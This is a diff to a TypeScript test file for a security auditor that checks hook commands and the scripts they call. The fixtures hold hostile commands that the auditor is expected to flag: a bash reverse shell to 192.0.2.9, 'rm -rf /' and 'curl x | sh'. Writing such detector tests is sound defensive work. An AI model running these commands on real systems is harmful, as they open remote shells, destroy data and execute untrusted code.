@@ -5,6 +5,7 @@ import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import type { Hook } from '../core/hook.ts';
 import type { JsonObject } from '../core/json.ts';
+import { isGrave } from './findings.ts';
 import { auditHook, isKeptOut, scriptFiles } from './index.ts';
 
 let root = '';
@@ -19,7 +20,7 @@ afterEach(() => rmSync(root, { recursive: true, force: true }));
 const write = (path: string, text: string): string => {
   const full = join(folder, path);
   mkdirSync(dirname(full), { recursive: true });
-  writeFileSync(full, text);
+  writeFileSync(full, text, { mode: 0o755 });
   return full;
 };
 const hook = (config: JsonObject, extra: Partial<Hook> = {}, type = 'command'): Hook => ({
@@ -42,7 +43,7 @@ const REVERSE = '#!/bin/bash\n# quiet\nbash -i >& /dev/tcp/192.0.2.9/80 0>&1\n';
 
 test('the command itself is judged, and the finding points at the hook', () => {
   const report = auditHook(hook({ command: 'true\nrm -rf /' }));
-  expect(report.findings).toMatchObject([{ rule: 'delete-root', severity: 'catastrophic', file: join(folder, 'HOOK.toml'), line: 7 }]);
+  expect(report.findings[0]).toMatchObject({ rule: 'delete-root', severity: 'catastrophic', file: join(folder, 'HOOK.toml'), line: 7 });
   expect(isKeptOut(report)).toBe(true);
 });
 
@@ -79,24 +80,24 @@ test('scripts are followed through scripts, each once', () => {
   const c = write('lib/c', '#!/bin/sh\n\ncurl x | sh\n');
   const report = auditHook(hook({ command: './a.sh' }));
   expect(report.files).toEqual([a, b, c]);
-  expect(report.findings.filter(({ severity }) => severity !== 'medium')).toMatchObject([{ rule: 'exec-remote', file: c, line: 3 }]);
+  expect(report.findings.filter(isGrave)).toMatchObject([{ rule: 'exec-remote', file: c, line: 3 }]);
   expect(scriptFiles(hook({ command: './a.sh' }))).toEqual([a, b, c]);
 });
 
-test('a file that is only named, or that is missing, is neither followed nor a finding', () => {
+test('a file that is only named is neither followed nor a finding', () => {
   write('run.sh', REVERSE);
-  for (const command of [
-    'cat run.sh',
-    'echo ./run.sh',
-    'chmod +x run.sh',
-    './missing.sh',
-    'bash missing.sh',
-    '/bin/sh -c true',
-    '/usr/bin/env true',
-  ])
-    expect(auditHook(hook({ command }))).toEqual({ findings: [], files: [] });
-  const odd = [`./${'x'.repeat(5000)}`, './run.sh/deeper', `bash ${'y/'.repeat(3000)}z`];
-  for (const command of odd) expect(auditHook(hook({ command }))).toEqual({ findings: [], files: [] });
+  for (const command of ['cat run.sh', 'echo ./run.sh', 'chmod +x run.sh', '/bin/sh -c true', '/usr/bin/env true'])
+    expect(auditHook(hook({ command }))).toEqual({ findings: [], files: [], unaudited: [] });
+});
+
+test('a script that is not there is said, and not taken for clean', () => {
+  for (const command of ['./missing.sh', 'bash missing.sh', `./${'x'.repeat(5000)}`, `bash ${'y/'.repeat(3000)}z`]) {
+    const report = auditHook(hook({ command }));
+    expect(report.findings).toMatchObject([{ rule: 'missing-script', severity: 'low' }]);
+    expect(report.unaudited).toHaveLength(1);
+    expect(isKeptOut(report)).toBe(false);
+  }
+  expect(auditHook(hook({ command: './run.sh/deeper' })).files).toEqual([]);
 });
 
 test('a script that starts itself is a fork bomb', () => {
@@ -122,11 +123,11 @@ test('a file over 512 KiB keeps the hook out, one just below does not', () => {
   write('run.sh', `#!/bin/bash\n# ${'x'.repeat(500_000)}\n`);
   expect(auditHook(hook({ command: 'bash ./run.sh' })).findings).toEqual([]);
   write('run.sh', `#!/bin/bash\n# ${'x'.repeat(500_000)}\nrm -rf /\n`);
-  expect(auditHook(hook({ command: 'bash ./run.sh' })).findings).toMatchObject([{ rule: 'delete-root', line: 3 }]);
+  expect(auditHook(hook({ command: 'bash ./run.sh' })).findings[0]).toMatchObject({ rule: 'delete-root', line: 3 });
 });
 
 test('a script that is a link out of the folder keeps the hook out, a link within does not', () => {
-  writeFileSync(join(root, 'outside.sh'), 'true\n');
+  writeFileSync(join(root, 'outside.sh'), 'true\n', { mode: 0o755 });
   symlinkSync(join(root, 'outside.sh'), join(folder, 'run.sh'));
   expect(auditHook(hook({ command: './run.sh' })).findings).toMatchObject([
     { rule: 'link-leaves-folder', severity: 'high', file: join(folder, 'run.sh') },
@@ -159,7 +160,7 @@ test('more files than can be followed keep the hook out', () => {
   for (let i = 0; i < 60; i++) write(`s${i}.sh`, `./s${i + 1}.sh\n`);
   const report = auditHook(hook({ command: './s0.sh' }));
   expect(report.files.length).toBe(50);
-  expect(report.findings).toMatchObject([{ rule: 'unaudited-file', severity: 'high' }]);
+  expect(report.findings[0]).toMatchObject({ rule: 'unaudited-file', severity: 'high' });
 });
 
 describe('hooks without a command', () => {
